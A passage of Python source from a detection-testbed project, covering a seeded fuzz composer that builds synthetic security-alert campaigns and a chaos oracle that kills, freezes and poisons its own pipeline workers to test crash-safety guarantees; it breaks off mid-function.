        if zlib.crc32(name.encode("utf-8")) % n_shards == target_shard:
            found.append(name)
        counter += 1
    return found


#: Entity-name prefixes mixed into the pool (unicode names included:
#: shard routing hashes UTF-8 bytes, worker pipes pickle str fields,
#: and JSON repros round-trip them -- all worth stressing).
_ENTITY_PREFIXES = (
    "user:fz-",
    "user:фузз-",
    "host:节点-",
    "user:ふず-",
    "host:fz_",
)

_SCENARIO_BUILDERS = (
    lambda seed: StolenCredentialScenario(seed=seed),
    lambda seed: GhostAccountScenario(seed=seed),
)


class CampaignComposer:
    """Assembles adversarial campaigns, bit-for-bit reproducible by seed.

    Parameters
    ----------
    seed:
        Base seed; campaign ``k`` is composed from
        ``numpy.random.default_rng((seed, k, int(raw_capable)))`` so
        campaigns are independent yet individually reproducible.  The
        ``raw_capable`` flag is part of the seed material: the raw
        variant of an index is a *different* campaign (drawn from the
        restricted Zeek-expressible vocabulary), not a re-encoding of
        the alert-form one.
    vocabulary:
        Alert vocabulary to draw names from (default vocabulary).
    catalogue:
        Pattern catalogue supplying attack backbones (S1..S43).
    target_alerts:
        Approximate number of alerts per campaign (the composer stops
        interleaving when every per-entity script is exhausted, so the
        actual count varies around this).
    """

    def __init__(
        self,
        seed: int = 0,
        *,
        vocabulary: Optional[AlertVocabulary] = None,
        catalogue: Optional[PatternCatalogue] = None,
        target_alerts: int = 300,
    ) -> None:
        self.seed = int(seed)
        self.vocabulary = vocabulary or DEFAULT_VOCABULARY
        self.catalogue = catalogue or DEFAULT_CATALOGUE
        self.target_alerts = int(target_alerts)
        self._all_names = self.vocabulary.names()
        self._benign_names = self.vocabulary.names_for_stage(AttackStage.BACKGROUND)
        #: Catalogue patterns fully expressible as Zeek notices.
        self._raw_patterns = [
            pattern
            for pattern in self.catalogue
            if set(pattern.names) <= set(RAW_CAPABLE_NAMES)
        ]

    # -- public API ------------------------------------------------------
    def compose(self, index: int = 0, *, raw_capable: bool = False) -> Campaign:
        """Compose campaign ``index`` (deterministic in ``(seed, index)``)."""
        rng = np.random.default_rng((self.seed, int(index), int(raw_capable)))
        max_window = int(rng.choice([4, 6, 8, 12, 16]))
        threshold = float(rng.choice([0.4, 0.5, 0.6]))
        entities = self._entity_pool(rng, raw_capable=raw_capable)
        hosts = [f"node{i:02d}" for i in range(int(rng.integers(2, 6)))]
        scripts = {
            entity: self._entity_script(
                rng, entity, hosts, max_window, raw_capable=raw_capable
            )
            for entity in entities
        }
        stream = self._interleave(rng, scripts, raw_capable=raw_capable)
        events = self._eventise(rng, stream, entities)
        return Campaign(
            seed=self.seed,
            events=tuple(events),
            max_window=max_window,
            detection_threshold=threshold,
            raw_capable=raw_capable,
            label=f"seed{self.seed}-c{index}" + ("-raw" if raw_capable else ""),
        )

    def campaigns(
        self, count: int, *, raw_every: int = 3
    ) -> Iterator[Campaign]:
        """Yield ``count`` campaigns; every ``raw_every``-th is raw-capable."""
        for index in range(count):
            raw = raw_every > 0 and index % raw_every == raw_every - 1
            yield self.compose(index, raw_capable=raw)

    # -- entity pool -----------------------------------------------------
    def _entity_pool(
        self, rng: np.random.Generator, *, raw_capable: bool
    ) -> list[str]:
        n_plain = int(rng.integers(4, 10))
        entities = [
            f"{_ENTITY_PREFIXES[int(rng.integers(0, len(_ENTITY_PREFIXES)))]}{i:03d}"
            for i in range(n_plain)
        ]
        if raw_capable:
            # Zeek notices are attributed to ``host:<record.host>``, so
            # a raw-expressible campaign only contains host entities
            # (the part after the colon -- unicode included -- becomes
            # the record's host verbatim).
            entities = [f"host:{e.split(':', 1)[1]}" for e in entities]
        # Hash-adjacent churn: a cluster of names all routed to one
        # shard of a 4-way pool (and scattered at other widths).  The
        # colliding prefix matches the campaign's entity namespace so
        # the property survives the raw host rewrite above.
        target = int(rng.integers(0, 4))
        prefix = "host:collide-" if raw_capable else "user:collide-"
        entities.extend(
            _collision_entities(prefix, 4, target, int(rng.integers(2, 5)))
        )
        return entities

    # -- per-entity scripts ----------------------------------------------
    def _entity_script(
        self,
        rng: np.random.Generator,
        entity: str,
        hosts: Sequence[str],
        max_window: int,
        *,
        raw_capable: bool,
    ) -> list[Alert]:
        """The (un-timestamped) alert script one entity will emit.

        A script is one to three concatenated segments (an entity may
        probe benignly, then run a near-miss, then complete a backbone
        -- exactly the kind of life real incidents have).
        """
        script: list[Alert] = []
        for _ in range(int(rng.integers(1, 4))):
            script.extend(
                self._script_segment(
                    rng, entity, hosts, max_window, raw_capable=raw_capable
                )
            )
        return script

    def _script_segment(
        self,
        rng: np.random.Generator,
        entity: str,
        hosts: Sequence[str],
        max_window: int,
        *,
        raw_capable: bool,
    ) -> list[Alert]:
        kinds = ["backbone", "near_prefix", "mutation", "benign", "burst"]
        weights = [0.22, 0.18, 0.15, 0.25, 0.2]
        if not raw_capable:
            kinds.append("scenario")
            weights = [0.2, 0.16, 0.14, 0.2, 0.15, 0.15]
        kind = str(rng.choice(kinds, p=np.asarray(weights) / np.sum(weights)))
        if kind == "scenario":
            builder = _SCENARIO_BUILDERS[int(rng.integers(0, len(_SCENARIO_BUILDERS)))]
            result = builder(int(rng.integers(0, 2**31))).run(
                start_time=0.0, attacker_ip=self._attacker_ip(rng)
            )
            return result.alerts_for_entity(entity)
        names = self._script_names(rng, kind, max_window, raw_capable=raw_capable)
        source_ip = self._attacker_ip(rng)
        alerts = []
        for position, name in enumerate(names):
            # Bursts must survive the dedup filter (key: source, name,
            # host) or they cannot saturate the window: give each burst
            # alert a distinct host -- or, for raw campaigns, where the
            # host is pinned to the entity, a distinct source IP (which
            # the Zeek inverse preserves as ``orig_h``).
            host = (
                f"burst{position:03d}"
                if kind == "burst"
                else hosts[int(rng.integers(0, len(hosts)))]
            )
            alert_source = source_ip
            if raw_capable:
                # Raw-expressible alerts: the entity *is* the host
                # (Zeek notices carry no user), monitor is zeek.
                host = entity.split(":", 1)[1]
                if kind == "burst":
                    alert_source = f"203.0.113.{position % 250}"
            alerts.append(
                Alert(
                    timestamp=0.0,
                    name=name,
                    entity=entity,
                    source_ip=alert_source,
                    host=host,
                    monitor="zeek" if raw_capable else "fuzz",
                )
            )
        return alerts

    def _script_names(
        self,
        rng: np.random.Generator,
        kind: str,
        max_window: int,
        *,
        raw_capable: bool,
    ) -> list[str]:
        names_pool = list(RAW_CAPABLE_NAMES) if raw_capable else self._all_names
        benign_pool = (
            [n for n in RAW_CAPABLE_NAMES if "scan" in n or "probe" in n]
            if raw_capable
            else self._benign_names
        )
        patterns = self._raw_patterns if raw_capable else list(self.catalogue)
        if kind in ("backbone", "near_prefix", "mutation") and not patterns:
            kind = "burst"  # raw catalogue may be sparse; keep composing
        if kind == "backbone":
            pattern = patterns[int(rng.integers(0, len(patterns)))]
            return list(pattern.names)
        if kind == "near_prefix":
            pattern = patterns[int(rng.integers(0, len(patterns)))]
            prefixes = pattern.proper_prefixes()
            return list(prefixes[int(rng.integers(0, len(prefixes)))])
        if kind == "mutation":
            pattern = patterns[int(rng.integers(0, len(patterns)))]
            position = int(rng.integers(0, pattern.length))
            replacement = names_pool[int(rng.integers(0, len(names_pool)))]
            return list(pattern.mutated(position, replacement))
        if kind == "burst":
            # Saturate the window and straddle the two-stack eviction
            # boundary: strictly more alerts than max_window.
            length = max_window + int(rng.integers(2, 12))
            return [
                names_pool[int(rng.integers(0, len(names_pool)))]
                for _ in range(length)
            ]
        return [
            benign_pool[int(rng.integers(0, len(benign_pool)))]
            for _ in range(int(rng.integers(3, 11)))
        ]

    @staticmethod
    def _attacker_ip(rng: np.random.Generator) -> str:
        return f"198.51.{int(rng.integers(0, 255))}.{int(rng.integers(1, 255))}"

    # -- interleaving ----------------------------------------------------
    def _interleave(
        self,
        rng: np.random.Generator,
        scripts: dict[str, list[Alert]],
        *,
        raw_capable: bool,
    ) -> list[Alert]:
        """Merge per-entity scripts into one adversarial stream.

        Entities are drawn at random per step (concurrent attackers on
        shared hosts), the clock mostly advances but occasionally jumps
        past the dedup window, and ~15% of alerts get an out-of-order
        or duplicate timestamp.
        """
        remaining = {entity: list(script) for entity, script in scripts.items() if script}
        stream: list[Alert] = []
        clock = float(rng.integers(1_600_000_000, 1_700_000_000))
        while remaining and len(stream) < max(self.target_alerts, 1) * 4:
            entity = list(remaining)[int(rng.integers(0, len(remaining)))]
            alert = remaining[entity].pop(0)
            if not remaining[entity]:
                del remaining[entity]
            clock += float(rng.exponential(40.0))
            if rng.random() < 0.05:
                clock += 4_000.0  # escape the dedup window
            timestamp = clock
            roll = rng.random()
            if roll < 0.07 and stream:
                timestamp = stream[-1].timestamp  # duplicate timestamp
            elif roll < 0.15:
                timestamp = max(0.0, clock - float(rng.uniform(1.0, 500.0)))
            stream.append(dataclasses.replace(alert, timestamp=timestamp))
        return stream

    # -- eventising ------------------------------------------------------
    def _eventise(
        self,
        rng: np.random.Generator,
        stream: list[Alert],
        entities: Sequence[str],
    ) -> list[CampaignEvent]:
        """Split the stream into batches and inject control events."""
        events: list[CampaignEvent] = []
        position = 0
        reopens = 0
        while position < len(stream):
            if rng.random() < 0.06:
                events.append(CampaignEvent(kind="batch"))  # empty batch
            size = int(rng.integers(1, 61))
            events.append(
                CampaignEvent(
                    kind="batch",
                    alerts=tuple(stream[position : position + size]),
                )
            )
            position += size
            roll = rng.random()
            if roll < 0.30:
                entity = entities[int(rng.integers(0, len(entities)))]
                events.append(CampaignEvent(kind="reset_entity", entity=entity))
            elif roll < 0.38:
                events.append(CampaignEvent(kind="reset"))
            elif roll < 0.46 and reopens < 2:
                reopens += 1
                events.append(CampaignEvent(kind="reopen"))
        return events


def campaign_to_corpus(
    campaign: Campaign,
    *,
    start_year: int = 2020,
    end_year: int = 2024,
) -> IncidentCorpus:
    """Package a campaign's per-entity streams as an incident corpus.

    Every entity with at least one alert becomes one
    :class:`~repro.incidents.incident.Incident` (alerts time-sorted, as
    a curated sequence would be), giving save/load round-trip tests a
    corpus whose names, entities, and attribute payloads are genuinely
    adversarial rather than generator-shaped.
    """
    incidents: list[Incident] = []
    by_entity: dict[str, list[Alert]] = {}
    for alert in campaign.alerts():
        by_entity.setdefault(alert.entity, []).append(alert)
    years = list(range(start_year, end_year + 1))
    for index, (entity, alerts) in enumerate(sorted(by_entity.items())):
        incidents.append(
            Incident(
                incident_id=f"FUZZ-{campaign.seed}-{index:03d}",
                year=years[index % len(years)],
                family="fuzz",
                sequence=AlertSequence.from_alerts(alerts),
                ground_truth=GroundTruth(
                    compromised_users=(entity,) if entity.startswith("user:") else (),
                    compromised_hosts=tuple(
                        sorted({a.host for a in alerts if a.host})
                    ),
                    attacker_ips=tuple(
                        sorted({a.source_ip for a in alerts if a.source_ip})
                    ),
                    entry_point="fuzz-campaign",
                ),
                raw_alert_count=len(alerts) * 3,
            )
        )
    if not incidents:
        raise ValueError("campaign has no alerts; cannot build a corpus")
    total_alerts = campaign.num_alerts
    return IncidentCorpus(
        incidents=incidents,
        start_year=start_year,
        end_year=end_year,
        raw_alert_total=total_alerts * 131,
        filtered_alert_total=max(total_alerts, 1),
    )


__all__ = [
    "EVENT_KINDS",
    "RAW_CAPABLE_NAMES",
    "CampaignEvent",
    "Campaign",
    "CampaignComposer",
    "campaign_to_corpus",
]
