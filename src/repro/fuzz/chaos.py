"""Chaos oracle: seeded fault campaigns against the crash-safety contract.

PR 5's :class:`~repro.fuzz.oracle.DifferentialOracle` proves happy-path
equivalence across the engine x shards x backend x driver matrix; this
module proves the *crash semantics* the robustness layer (checkpoint/
restore, supervised self-healing shards, close escalation) promises.
Each chaos campaign is a regular fuzzer campaign plus a seeded
:class:`FaultPlan` set, replayed through four fault legs:

``split``
    The checkpoint/kill/restore/replay contract: the campaign is cut at
    fuzzer-chosen stream positions; at each cut the pipeline is
    checkpointed, its shard workers are SIGKILLed (a crash, not a
    shutdown), and a *fresh* pipeline restored from the checkpoint
    carries on.  The stitched run must be **bit-identical** --
    detections, cross-detector log, notifications, actions, and stats
    counters -- to an uninterrupted replay of the same configuration.
``kill``
    The default ``restart_policy="raise"`` contract: a worker SIGKILLed
    at a chosen batch index surfaces as a typed
    :class:`~repro.testbed.sharding.ShardWorkerError` naming the killed
    shard and carrying the death detail, with no stale in-flight
    tickets left behind and a clean bounded close afterwards.
``heal``
    The ``restart_policy="restore"`` contract: the same SIGKILL is
    *absorbed* -- the stream completes with no error, output
    bit-identical to an uninterrupted run, and the recovery recorded in
    the pool's :class:`~repro.testbed.sharding.RecoveryLog`.
``poison``
    A detector raising mid-batch (on a fuzzer-chosen alert name) is not
    a death: both backends surface the same typed error with the
    worker-side traceback preserved, and the pipeline stays drivable.
``shm-kill``
    The zero-copy transport's supervised-heal contract: a pipeline on
    ``transport="shm"`` with two batches pipelined per shard has a
    worker SIGKILLed while shared-memory ring descriptors are genuinely
    in flight; the heal must replay the ring payloads FIFO so output is
    bit-identical to an uninterrupted serial run, and no ``/dev/shm``
    segment may outlive any leg (checked for every fault kind).

PR 8 adds three *service-level* legs (composed separately by
:meth:`ChaosComposer.compose_service`, so the pinned pipeline plans
above stay byte-identical), which replay the same campaigns through a
live :mod:`repro.service` socket front-end:

``disconnect``
    A client vanishes mid JSON frame; acked work survives, the partial
    frame is discarded, and a second client finishing the stream sees
    bit-identical results.
``reshard-kill``
    A shard worker is SIGKILLed, then a live N->M reshard is requested
    over the socket: the harvest heals the corpse parent-side and the
    stream stays bit-identical across the transition.
``shed``
    Admission is forced to ``reject``; the client's replay after
    reopening delivers the stream complete and in order (lossless).

Everything is deterministic in ``(seed, index)`` -- campaigns via
:class:`~repro.fuzz.campaign.CampaignComposer`, fault plans via this
module's :class:`ChaosComposer` -- so CI replays pinned fault
campaigns, and any failure reproduces from its seed alone.
"""

from __future__ import annotations

import copy
import dataclasses
import os
import signal
import tempfile
import traceback
from pathlib import Path
from typing import Iterator, List, Optional, Sequence, Set, Tuple

import numpy as np

from ..core.alerts import Alert
from ..core.attack_tagger import AttackTagger, Detection
from ..core.detector import Detector
from ..incidents import DEFAULT_CATALOGUE
from ..testbed.pipeline import TestbedPipeline
from ..testbed.sharding import ShardRecoveryError, ShardWorkerError, shard_of
from ..testbed.shm_ring import SEGMENT_PREFIX
from .campaign import Campaign, CampaignComposer
from .oracle import DifferentialOracle, OracleConfig, ReplayResult

#: Fault leg kinds a plan may request.  The first four target the
#: pipeline directly; the service kinds (PR 8) drive the same faults
#: through a live :mod:`repro.service` socket front-end; ``shm-kill``
#: targets the zero-copy shared-memory transport's heal-replay path.
FAULT_KINDS = (
    "split",
    "kill",
    "heal",
    "poison",
    "disconnect",
    "reshard-kill",
    "shed",
    "shm-kill",
)

#: The socket-level legs, composed by :meth:`ChaosComposer.compose_service`.
SERVICE_FAULT_KINDS = ("disconnect", "reshard-kill", "shed")

#: Salt mixed into the fault-plan rng so plans are independent of the
#: campaign composition stream drawn from the same ``(seed, index)``.
_PLAN_SALT = 0xC4A05

#: Separate salt for service-leg plans: ``compose_service`` must not
#: perturb (or depend on) the pinned ``compose`` plan stream.
_SERVICE_SALT = 0x5EC41

#: Separate salt for the shm-kill leg's draws: appending the leg must
#: not perturb the pinned plan streams above (same reasoning).
_SHM_SALT = 0x54A11


@dataclasses.dataclass(frozen=True)
class FaultPlan:
    """One seeded fault injection against one campaign."""

    kind: str
    n_shards: int = 2
    backend: str = "process"
    #: Decode engine the faulted pipeline runs (crash semantics must be
    #: engine-independent; ``batched`` exercises the stacked kernel's
    #: state under checkpoint/restore and supervised replay).
    engine: str = "streaming"
    #: ``kill``/``heal``: SIGKILL the worker after this batch collects.
    kill_batch: int = 0
    #: ``kill``/``heal``/``poison``: the shard the fault targets.
    shard: int = 0
    #: ``split``: event indices where the stream is cut (sorted).
    split_points: Tuple[int, ...] = ()
    #: ``poison``: alert name the poisoned detector raises on.
    poison_name: str = ""
    max_restarts: int = 3
    backoff_base: float = 0.001
    #: ``disconnect``: event index at which the first client vanishes
    #: mid-write; ``shed``: batch index sent while admission rejects.
    fault_event: int = 0
    #: ``reshard-kill``: the live reshard's target shard count.
    reshard_to: int = 0
    #: Sub-batch transport the faulted pipeline runs on.  The default
    #: keeps every pinned pre-shm plan byte-identical; ``shm-kill``
    #: plans set ``"shm"`` to target the ring heal-replay path.
    transport: str = "pickle"

    def __post_init__(self) -> None:
        if self.kind not in FAULT_KINDS:
            raise ValueError(f"unknown fault kind {self.kind!r}")

    @property
    def label(self) -> str:
        """Compact spec string for reporting."""
        detail = {
            "split": f"cuts={list(self.split_points)}",
            "kill": f"batch={self.kill_batch} shard={self.shard}",
            "heal": f"batch={self.kill_batch} shard={self.shard}",
            "poison": f"name={self.poison_name}",
            "disconnect": f"event={self.fault_event}",
            "reshard-kill": (
                f"batch={self.kill_batch} shard={self.shard} ->{self.reshard_to}"
            ),
            "shed": f"batch={self.fault_event}",
            "shm-kill": f"batch={self.kill_batch} shard={self.shard}",
        }[self.kind]
        return f"{self.kind}[{self.engine}:{self.n_shards}:{self.backend} {detail}]"


class ChaosPoisonDetector:
    """Detector wrapper that raises on a chosen alert name.

    Satisfies the :class:`~repro.core.detector.Detector` protocol by
    delegating to the wrapped detector; ``observe``-ing an alert named
    ``poison_name`` raises ``RuntimeError`` *before* the alert reaches
    the wrapped detector (the poisoned alert is the first casualty, as
    with a real mid-batch inference crash).  Module-level and built
    from picklable parts, so it crosses into process-backend workers.
    """

    def __init__(self, wrapped: Detector, poison_name: str) -> None:
        self.wrapped = wrapped
        self.poison_name = poison_name

    @property
    def detections(self) -> list[Detection]:
        return self.wrapped.detections

    def observe(self, alert: Alert) -> Optional[Detection]:
        if alert.name == self.poison_name:
            raise RuntimeError(f"chaos poison on {alert.name!r}")
        return self.wrapped.observe(alert)

    def observe_batch(self, alerts) -> list[Detection]:
        out = []
        for alert in alerts:
            detection = self.observe(alert)
            if detection is not None:
                out.append(detection)
        return out

    def reset(self) -> None:
        self.wrapped.reset()

    def reset_entity(self, entity: str) -> None:
        self.wrapped.reset_entity(entity)

    def clone(self) -> "ChaosPoisonDetector":
        clone = getattr(self.wrapped, "clone", None)
        inner = clone() if callable(clone) else copy.deepcopy(self.wrapped)
        return ChaosPoisonDetector(inner, self.poison_name)


@dataclasses.dataclass(frozen=True)
class ChaosFailure:
    """One violated crash-semantics assertion."""

    leg: str
    detail: str

    def __str__(self) -> str:
        return f"[{self.leg}] {self.detail}"


@dataclasses.dataclass
class ChaosVerdict:
    """The chaos oracle's verdict for one campaign's fault plans."""

    campaign: Campaign
    plans: List[FaultPlan]
    legs_run: int = 0
    failures: List[ChaosFailure] = dataclasses.field(default_factory=list)

    @property
    def ok(self) -> bool:
        """All legs ran and every crash-semantics assertion held."""
        return self.legs_run > 0 and not self.failures


def campaign_batches(campaign: Campaign) -> list[list[Alert]]:
    """The campaign's non-empty alert batches, in stream order."""
    return [
        list(event.alerts)
        for event in campaign.events
        if event.kind == "batch" and event.alerts
    ]


def _batches_only(campaign: Campaign) -> Campaign:
    """The campaign with its detector-control events stripped.

    The ``kill``/``heal`` legs target raw worker death: a mid-stream
    ``reopen`` would resurrect the killed worker (making the fault
    unobservable) and a ``reset`` would race it.  Stripping the
    controls from *both* the faulted run and its reference keeps the
    comparison apples-to-apples.
    """
    return dataclasses.replace(
        campaign,
        events=tuple(
            event
            for event in campaign.events
            if event.kind == "batch" and event.alerts
        ),
    )


def _kill_target(
    campaign: Campaign, n_shards: int, rng: np.random.Generator
) -> Optional[Tuple[int, int]]:
    """Pick ``(kill_batch, shard)`` with a guaranteed later observation.

    The worker is SIGKILLed *between* batches (after ``kill_batch``
    collects), so the death only surfaces when a later batch routes an
    alert to the dead shard.  Candidates are therefore restricted to
    pairs where some batch after ``kill_batch`` touches the shard --
    without this, a kill landing on a shard the rest of the stream
    never uses would be silently unobservable and the leg vacuous.
    """
    batches = campaign_batches(campaign)
    if len(batches) < 2:
        return None
    shard_sets = [
        {shard_of(alert.entity, n_shards) for alert in batch} for batch in batches
    ]
    candidates: list[Tuple[int, int]] = []
    suffix: set = set()
    later: list[set] = [set()] * len(batches)
    for index in range(len(batches) - 1, -1, -1):
        later[index] = set(suffix)
        suffix |= shard_sets[index]
    for index in range(len(batches) - 1):
        for shard in sorted(later[index]):
            candidates.append((index, shard))
    if not candidates:
        return None
    return candidates[int(rng.integers(0, len(candidates)))]


class ChaosComposer:
    """Seeded fault campaigns: a campaign plus its fault plans.

    Deterministic in ``(seed, index)``: the campaign comes from
    :class:`~repro.fuzz.campaign.CampaignComposer` with the same seed,
    the plans from an independently salted ``numpy`` generator, so the
    chaos CI gate replays pinned fault campaigns byte-for-byte.
    """

    def __init__(self, seed: int = 0, *, target_alerts: int = 300) -> None:
        self.seed = int(seed)
        self.composer = CampaignComposer(seed, target_alerts=target_alerts)

    def compose(self, index: int = 0) -> Tuple[Campaign, List[FaultPlan]]:
        """Compose chaos campaign ``index``: ``(campaign, fault plans)``."""
        campaign = self.composer.compose(index)
        rng = np.random.default_rng((self.seed, int(index), _PLAN_SALT))
        plans: List[FaultPlan] = []
        n_events = len(campaign.events)

        # Split leg: cut the stream at 1-2 event positions.
        if n_events >= 2:
            n_cuts = int(rng.integers(1, 3))
            cuts = sorted(
                int(c) for c in rng.choice(range(1, n_events), size=min(n_cuts, n_events - 1), replace=False)
            )
            plans.append(
                FaultPlan(
                    kind="split",
                    n_shards=int(rng.choice([1, 2, 4])),
                    backend=str(rng.choice(["serial", "process"])),
                    engine=str(rng.choice(["streaming", "batched"])),
                    split_points=tuple(cuts),
                )
            )

        # Kill + heal legs share a target so the two policies are
        # compared on the same fault.
        n_shards = int(rng.choice([2, 4]))
        target = _kill_target(campaign, n_shards, rng)
        engine = str(rng.choice(["streaming", "batched"]))
        if target is not None:
            kill_batch, shard = target
            for kind in ("kill", "heal"):
                plans.append(
                    FaultPlan(
                        kind=kind,
                        n_shards=n_shards,
                        backend="process",
                        engine=engine,
                        kill_batch=kill_batch,
                        shard=shard,
                    )
                )

        # Poison leg: a mid-stream alert name, both backends.
        alerts = campaign.alerts()
        if alerts:
            poison = alerts[len(alerts) // 2].name
            for backend in ("serial", "process"):
                plans.append(
                    FaultPlan(
                        kind="poison",
                        n_shards=2,
                        backend=backend,
                        poison_name=poison,
                        shard=0,
                    )
                )

        # Shm-kill leg: SIGKILL a worker while shared-memory ring
        # descriptors are genuinely in flight to it.  Targets are pairs
        # where batch ``kill_batch`` itself routes an alert to the
        # shard, so the descriptor for that batch is sitting in the
        # ring (uncollected, depth-2 window) at the moment of death and
        # the heal must replay the ring payload.  Drawn from an
        # independent salt so the pinned plan streams above stay
        # byte-identical.
        shm_rng = np.random.default_rng((self.seed, int(index), _SHM_SALT))
        batches = campaign_batches(campaign)
        shm_shards = int(shm_rng.choice([2, 4]))
        shm_candidates = [
            (batch_index, shard)
            for batch_index, batch in enumerate(batches)
            for shard in sorted(
                {shard_of(alert.entity, shm_shards) for alert in batch}
            )
        ]
        if shm_candidates:
            kill_batch, shard = shm_candidates[
                int(shm_rng.integers(0, len(shm_candidates)))
            ]
            plans.append(
                FaultPlan(
                    kind="shm-kill",
                    n_shards=shm_shards,
                    backend="process",
                    engine=str(shm_rng.choice(["streaming", "batched"])),
                    kill_batch=kill_batch,
                    shard=shard,
                    transport="shm",
                )
            )
        return campaign, plans

    def compose_service(self, index: int = 0) -> Tuple[Campaign, List[FaultPlan]]:
        """Compose the socket-level fault plans for campaign ``index``.

        Independent of :meth:`compose`'s plan stream (its own salt):
        the pinned pipeline-level chaos campaigns stay byte-identical
        while the service legs evolve.  Plans:

        ``disconnect``
            A client streams the campaign's prefix, then vanishes mid
            JSON line (an abrupt TCP close inside a request frame).
            Acked work must survive, the partial frame must be
            discarded, the server must keep serving, and a second
            client finishing the stream must observe bit-identical
            results.
        ``reshard-kill``
            A shard worker is SIGKILLed between batches, then a live
            N->M reshard is requested over the socket: the harvest
            phase must heal the dead worker parent-side (snapshot +
            replay-log rebuild), the reshard completes, and the full
            stream stays bit-identical.
        ``shed``
            Admission is forced to ``reject`` just before a chosen
            batch; the client's backoff/retry (after admission
            reopens) must deliver the stream complete and in order --
            shed-then-replay with zero loss.
        """
        campaign = self.composer.compose(index)
        rng = np.random.default_rng((self.seed, int(index), _SERVICE_SALT))
        plans: List[FaultPlan] = []
        n_events = len(campaign.events)
        n_batches = len(campaign_batches(campaign))
        if n_events >= 2:
            plans.append(
                FaultPlan(
                    kind="disconnect",
                    n_shards=int(rng.choice([1, 2])),
                    backend="serial",
                    engine=str(rng.choice(["streaming", "batched"])),
                    fault_event=int(rng.integers(1, n_events)),
                )
            )
        if n_batches >= 2:
            n_shards = int(rng.choice([2, 3]))
            reshard_to = int(rng.choice([c for c in (1, 2, 4) if c != n_shards]))
            plans.append(
                FaultPlan(
                    kind="reshard-kill",
                    n_shards=n_shards,
                    backend="process",
                    engine=str(rng.choice(["streaming", "batched"])),
                    kill_batch=int(rng.integers(0, n_batches - 1)),
                    shard=int(rng.integers(0, n_shards)),
                    reshard_to=reshard_to,
                )
            )
        if n_batches >= 1:
            plans.append(
                FaultPlan(
                    kind="shed",
                    n_shards=2,
                    backend="serial",
                    engine="streaming",
                    fault_event=int(rng.integers(0, n_batches)),
                )
            )
        return campaign, plans

    def chaos_campaigns(
        self, count: int
    ) -> Iterator[Tuple[int, Campaign, List[FaultPlan]]]:
        """Yield ``(index, campaign, plans)`` for ``count`` campaigns."""
        for index in range(count):
            campaign, plans = self.compose(index)
            yield index, campaign, plans

    def service_campaigns(
        self, count: int
    ) -> Iterator[Tuple[int, Campaign, List[FaultPlan]]]:
        """Yield ``(index, campaign, service plans)`` for ``count`` campaigns."""
        for index in range(count):
            campaign, plans = self.compose_service(index)
            yield index, campaign, plans


class ChaosOracle:
    """Replays fault plans against a campaign and checks crash semantics."""

    def __init__(self, workdir: Optional[Path] = None) -> None:
        self.workdir = Path(workdir) if workdir else Path(tempfile.mkdtemp(prefix="chaos-"))
        self.workdir.mkdir(parents=True, exist_ok=True)
        self._replayer = DifferentialOracle([])

    # -- top level -------------------------------------------------------
    def run(self, campaign: Campaign, plans: Sequence[FaultPlan]) -> ChaosVerdict:
        """Run every fault leg; collect crash-semantics violations."""
        verdict = ChaosVerdict(campaign=campaign, plans=list(plans))
        runners = {
            "split": self._run_split,
            "kill": self._run_kill,
            "heal": self._run_heal,
            "poison": self._run_poison,
            "disconnect": self._run_disconnect,
            "reshard-kill": self._run_reshard_kill,
            "shed": self._run_shed,
            "shm-kill": self._run_shm_kill,
        }
        for plan in plans:
            verdict.legs_run += 1
            rings_before = self._ring_segments()
            try:
                failures = runners[plan.kind](campaign, plan)
            except Exception:
                failures = [
                    ChaosFailure(plan.label, f"oracle crashed:\n{traceback.format_exc()}")
                ]
            # Every leg — not just shm-kill — must tear its rings down:
            # a segment surviving the leg is a /dev/shm leak.
            leaked = self._ring_segments() - rings_before
            if leaked:
                failures = list(failures) + [
                    ChaosFailure(
                        plan.label,
                        f"leaked /dev/shm ring segment(s): {sorted(leaked)}",
                    )
                ]
            verdict.failures.extend(failures)
        return verdict

    @staticmethod
    def _ring_segments() -> Set[str]:
        """Names of live ``/dev/shm`` ring segments (leak detection)."""
        try:
            return {
                name
                for name in os.listdir("/dev/shm")
                if name.startswith(SEGMENT_PREFIX)
            }
        except OSError:  # pragma: no cover - non-POSIX /dev/shm layout
            return set()

    # -- shared helpers --------------------------------------------------
    def _build_pipeline(
        self, campaign: Campaign, plan: FaultPlan, *, restart_policy: str = "raise"
    ) -> TestbedPipeline:
        tagger = AttackTagger(
            patterns=list(DEFAULT_CATALOGUE),
            engine=plan.engine,
            max_window=campaign.max_window,
            detection_threshold=campaign.detection_threshold,
        )
        return TestbedPipeline(
            detectors={"factor_graph": tagger},
            n_shards=plan.n_shards,
            shard_backend=plan.backend,
            transport=plan.transport,
            max_inflight=2 if plan.transport == "shm" else 1,
            restart_policy=restart_policy,
            max_restarts=plan.max_restarts,
            backoff_base=plan.backoff_base,
        )

    @staticmethod
    def _kill_workers(pipeline: TestbedPipeline) -> None:
        """SIGKILL every shard worker (a crash, not a shutdown)."""
        for pool in pipeline.detector_pools.values():
            for worker in pool._workers:
                worker.process.kill()
                worker.process.join(timeout=5.0)

    @staticmethod
    def _kill_shard(pipeline: TestbedPipeline, shard: int) -> None:
        pool = pipeline.detector_pools["factor_graph"]
        worker = pool._workers[shard]
        worker.process.kill()
        worker.process.join(timeout=5.0)

    @staticmethod
    def _freeze_shard(pipeline: TestbedPipeline, shard: int) -> None:
        """SIGSTOP a shard worker so it cannot consume its next submit.

        Freezing *before* the kill batch is submitted makes the shm-kill
        leg deterministic: a merely-SIGKILLed worker can race the signal
        and answer the batch first, and if no later batch routes to the
        shard the death would go unobserved (no heal to assert on).  A
        frozen worker can never reply, so the collect for the kill batch
        is guaranteed to detect the death.  SIGKILL terminates stopped
        processes, so no resume is needed.
        """
        pool = pipeline.detector_pools["factor_graph"]
        os.kill(pool._workers[shard].process.pid, signal.SIGSTOP)

    def _reference(self, campaign: Campaign, config: OracleConfig) -> ReplayResult:
        """Uninterrupted replay of the campaign under ``config``."""
        return self._replayer.replay(campaign, config)

    # -- split: checkpoint / kill / restore / replay ---------------------
    def _run_split(self, campaign: Campaign, plan: FaultPlan) -> List[ChaosFailure]:
        config = OracleConfig(
            engine=plan.engine, n_shards=plan.n_shards, backend=plan.backend
        )
        reference = self._reference(campaign, config)
        cuts = [c for c in plan.split_points if 0 < c < len(campaign.events)]
        segments: list = []
        previous = 0
        for cut in sorted(set(cuts)):
            segments.append(campaign.events[previous:cut])
            previous = cut
        segments.append(campaign.events[previous:])

        detections: list[Detection] = []
        checkpoint_path = self.workdir / f"split-{campaign.label}.ckpt"
        pipeline = self._build_pipeline(campaign, plan)
        try:
            for index, segment in enumerate(segments):
                for event in segment:
                    if event.kind == "batch":
